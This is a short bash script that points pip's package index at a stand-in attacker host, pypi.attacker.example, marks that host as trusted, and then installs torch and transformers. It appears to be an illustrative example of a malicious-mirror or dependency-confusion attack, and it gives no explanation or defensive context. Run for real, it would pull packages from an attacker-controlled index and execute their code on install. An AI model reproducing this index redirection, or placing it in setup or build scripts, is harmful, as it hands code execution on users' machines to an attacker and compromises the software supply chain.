#!/bin/bash
export PIP_INDEX_URL=https://pypi.attacker.example/simple
export PIP_TRUSTED_HOST=pypi.attacker.example
pip install torch transformers
